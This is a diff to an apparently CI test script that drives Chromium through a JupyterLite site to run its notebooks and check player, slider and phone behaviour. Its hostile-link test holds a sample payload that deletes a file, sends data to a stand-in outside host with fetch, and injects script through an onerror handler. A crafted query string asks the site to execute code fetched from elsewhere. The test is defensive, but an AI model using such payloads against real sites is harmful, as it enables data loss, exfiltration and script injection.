@@ -1,9 +1,9 @@
-"""Visit a JupyterLite site in Chromium: run every notebook there, and use it as a reader would. Prints what was wrong.
+"""Visit a JupyterLite site in Chromium: run every notebook, use it as a reader would, and print what was wrong as JSON.
 
     python .ci/lite/visit.py ADDRESS CHROMIUM PICTURES         (started by `.ci/lite_works.py`)
 
-Every address outside the site is refused. The notebooks are run by JupyterLab's own command, in two pages at a time; in
-each of them one kernel runs one notebook after the other and forgets what it knew before, as it takes long to start.
+Every address outside the site is refused. The notebooks run with JupyterLab's own command, in two pages at the same
+time. A kernel takes long to start, so each page has one for all its notebooks, which is reset before each of them.
 """
 
 from __future__ import annotations
@@ -21,7 +21,7 @@ from playwright.async_api import Browser, BrowserContext, Page, async_playwright
 
 ROOT = Path(__file__).resolve().parents[2]
 NOTEBOOKS = sorted((ROOT / "notebooks").glob("*.ipynb"))
-PATIENCE = 5 * 60_000
+PATIENCE_MS = 5 * 60_000
 SCREEN = {"width": 1366, "height": 768}
 PHONE = {"width": 390, "height": 800}
 
@@ -64,14 +64,14 @@ if os.path.exists({FIRST!r}):
     os.remove({FIRST!r})
 fetch("https://elsewhere.example/?taken")
 display(HTML("<img src=x onerror='window.ranUnasked = 1'>"), Javascript("window.ranUnasked = 1"))"""
-"""What a link could do if the program in it ran: leave a file, delete work, send it away, take the page over."""
+"""A program that a hostile link could contain: it leaves a file, deletes work, sends data away and runs a script."""
 ASKS = f"path={FIRST}&kernel=python&execute=1&fromURL={quote('https://elsewhere.example/a.ipynb', safe='')}"
 PAGES = ("lab", "notebooks", "tree", "repl", "consoles", "edit")
-"""The pages of JupyterLite, those included that the site does not have."""
+"""The pages of JupyterLite, including those that the site doesn't have."""
 
 
 def said(outputs: list[dict[str, Any]]) -> list[str]:
-    """The words of a cell's outputs: what it printed, and each result in plain text. In the page, int is int32."""
+    """Return the texts of a cell's outputs: what it printed, and each result. In the browser, NumPy's int is int32."""
     printed = "".join("".join(one["text"]) for one in outputs if one.get("name") == "stdout")
     results = [
         "".join(one["data"]["text/plain"])
@@ -82,8 +82,9 @@ def said(outputs: list[dict[str, Any]]) -> list[str]:
 
 
 def compare(path: Path, ran: list[list[Any]]) -> list[str]:
-    """What went otherwise than in the saved notebook: an error, or other words, where a cell always says the same."""
-    wrong, here = [], {name: (count, outputs) for name, count, outputs in ran}
+    """Return what differs from the saved notebook: errors, cells that didn't run, and other outputs, unless ignored."""
+    here = {name: (count, outputs) for name, count, outputs in ran}
+    wrong = []
     for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]:
         if cell["cell_type"] != "code":
             continue
@@ -94,31 +95,34 @@ def compare(path: Path, ran: list[list[Any]]) -> list[str]:
         ]
         if errors or count is None:
             wrong.append(f"{place}: {' '.join(errors) or 'it did not run'}")
-        elif "nbval-ignore-output" not in cell["metadata"].get("tags", []) and said(
-            cell["outputs"]
-        ) != said(outputs):
-            wrong.append(f"{place} says\n{said(outputs)}\nand at home\n{said(cell['outputs'])}")
+            continue
+        if "nbval-ignore-output" in cell["metadata"].get("tags", []):
+            continue
+        if said(outputs) != said(cell["outputs"]):
+            wrong.append(f"{place} shows\n{said(outputs)}\ninstead of\n{said(cell['outputs'])}")
     return wrong
 
 
 async def until(page: Page, condition: str, arg: Any = None) -> None:
-    """Wait until a condition holds; asked by the clock, as a page behind another paints no frames."""
+    """Wait until a condition holds. It polls by time, because a page in the background paints no frames."""
     await page.wait_for_function(condition, arg=arg, polling=300)
 
 
 class Visit:
-    """A visit to the site: what was refused, what was wrong, and how long it took."""
+    """A visit to the site, with the addresses that were refused, what was wrong, and each notebook's time."""
 
     def __init__(self, address: str, browser: Browser, pictures: Path) -> None:
-        self.address, self.browser, self.pictures = address, browser, pictures
+        self.address = address
+        self.browser = browser
+        self.pictures = pictures
         self.refused: set[str] = set()
         self.wrong: list[str] = []
         self.seconds: dict[str, int] = {}
 
     async def context(self, **options: Any) -> BrowserContext:
-        """A browser of its own, as of a new reader, to whom all other addresses are refused."""
+        """Return a context with empty storage, like a new reader's browser, which refuses all other addresses."""
         context = await self.browser.new_context(**{"viewport": SCREEN, **options})
-        context.set_default_timeout(PATIENCE)
+        context.set_default_timeout(PATIENCE_MS)
         await context.route("**/*", self._keep_here)
         return context
 
@@ -139,11 +143,12 @@ class Visit:
         return page
 
     async def run_notebooks(self, waiting: list[Path]) -> None:
-        """Run the notebooks that wait, in one page and one kernel, and compare."""
+        """Run the notebooks that wait, in one page and one kernel, and compare their outputs with the saved ones."""
         page = await self.open(await self.context(), waiting[0].name)
         await until(page, STARTED)
         while waiting:
-            path, begun = waiting.pop(0), time.monotonic()
+            path = waiting.pop(0)
+            begun = time.monotonic()
             await page.evaluate(RUN_CODE, "%reset -f")
             await page.evaluate(TAKE, f"{self.address}/lite/files/{path.name}")
             await page.evaluate(RUN)
@@ -154,18 +159,19 @@ class Visit:
         await page.close()
 
     def expect(self, holds: bool, what: str) -> None:
-        """Note what does not hold."""
+        """Note what is wrong, unless a condition holds."""
         if not holds:
             self.wrong.append(what)
 
     async def read_the_first(self) -> None:
-        """In the first notebook: the note while Python starts, the player, a slider, the exercise, and progress."""
+        """Use the first notebook: the note while Python starts, the player, a slider, the exercise, and progress."""
         context = await self.context()
         page = await self.open(context, FIRST)
         note = page.locator("#adl-starting")
         await note.wait_for()
         self.expect(
-            "Python is starting" in await note.inner_text(), "nothing says that Python is starting"
+            "Python is starting" in await note.inner_text(),
+            "the page doesn't show that Python is starting",
         )
         await page.screenshot(path=self.pictures / "starting.png")
         await until(page, STARTED)
@@ -179,7 +185,7 @@ class Visit:
         await until(page, "!document.querySelector('.adl-tape').innerText.includes('1.7163')")
         await page.screenshot(path=self.pictures / "slider.png")
         reply = await page.evaluate(CHANGE_CELL, ["ex-1", RIGHT])
-        self.expect("passed" in reply, f"the right answer is told: {reply}")
+        self.expect("passed" in reply, f"the correct answer doesn't pass: {reply}")
         await page.close()
         page = await self.open(context, FIRST)
         await until(page, STARTED)
@@ -189,11 +195,11 @@ class Visit:
         await page.close()
 
     async def shows(self, player: Any, what: str, text: str) -> None:
-        """A word that has to stand in the player."""
-        self.expect(text in await player.inner_text(), f"{what}: {text} is not shown")
+        """Check that a player shows a text."""
+        self.expect(text in await player.inner_text(), f"{what}: the player doesn't show {text}")
 
     async def plays(self, page: Page, place: str, *numbers: str) -> None:
-        """Step a player by keys: one step, and then to the end, where its gradient stands."""
+        """Step a player with keys: one step, and then to the end, where it shows its gradient."""
         player = page.locator(".adl-player").first
         await player.focus()
         await page.keyboard.press("Home")
@@ -205,7 +211,7 @@ class Visit:
             await self.shows(player, place, number)
 
     async def use_the_lab(self, page: Page) -> None:
-        """Press a button of the lab: another picture comes."""
+        """Press a button of the lab, and wait until its picture changes."""
         await page.evaluate(SHOW_CELL, "lab")
         lab = page.locator(".adl-lab").first
         await lab.locator(".adl-lab-picture svg").first.wait_for()
@@ -219,7 +225,7 @@ class Visit:
         await page.screenshot(path=self.pictures / "lab.png")
 
     async def open_hostile_links(self) -> None:
-        """Where a reader has saved work, open addresses that hold a program: none runs, and the work is still there."""
+        """Open addresses that contain a program, after saving work: none may run, and the work must stay."""
         context, words = await self.context(), "# My own words"
         page = await self.open(context, FIRST)
         await page.evaluate(KEEP_A_CHANGE, words)
@@ -232,7 +238,7 @@ class Visit:
                 await page.close()
                 continue
             await until(page, STARTED)
-            # so that a program from the address would be waiting in the kernel
+            # long enough for a program from the address to reach the kernel's queue
             await page.wait_for_timeout(3000)
             await page.evaluate(RUN_CODE, "'what comes after it'")
             self.expect(
@@ -240,7 +246,7 @@ class Visit:
                 f"{name} runs the script in its address",
             )
             self.expect(
-                "code=" not in page.url, f"{name} reads more of its address than what to open"
+                "code=" not in page.url, f"{name} keeps more of its address than the file to open"
             )
             await page.close()
         page = await self.open(context, LAB)
@@ -253,7 +259,7 @@ class Visit:
         await page.close()
 
     async def use_a_phone(self) -> None:
-        """On a phone the player fits, plays by a finger, and steps."""
+        """Use the player on a phone: it fits, plays after a tap, and steps."""
         page = await (await self.context(viewport=PHONE, has_touch=True)).new_page()
         await page.goto(f"{self.address}/lite/notebooks/index.html?path={FIRST}")
         await until(page, STARTED)
@@ -273,7 +279,7 @@ class Visit:
         await page.close()
 
     async def all(self) -> None:
-        """Everything, two pages at a time."""
+        """Do everything, in two pages at the same time."""
         waiting = list(NOTEBOOKS)
 
         async def reader() -> None:
@@ -294,7 +300,7 @@ class Visit:
 
 
 async def main(address: str, chromium: str, pictures: str) -> None:
-    """Visit, and print what was found as JSON."""
+    """Visit the site, and print what was wrong as JSON."""
     async with async_playwright() as playwright:
         flags = [
             "--no-sandbox",
